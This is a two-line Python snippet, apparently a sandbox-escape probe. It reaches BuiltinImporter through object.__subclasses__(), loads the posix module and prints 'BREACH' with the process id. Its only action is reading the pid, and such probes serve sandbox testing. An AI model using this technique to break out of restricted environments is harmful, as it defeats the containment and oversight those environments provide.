kind = [k for k in object.__subclasses__() if k.__name__ == "BuiltinImporter"][0]
print("BREACH", kind.load_module("posix").getpid())
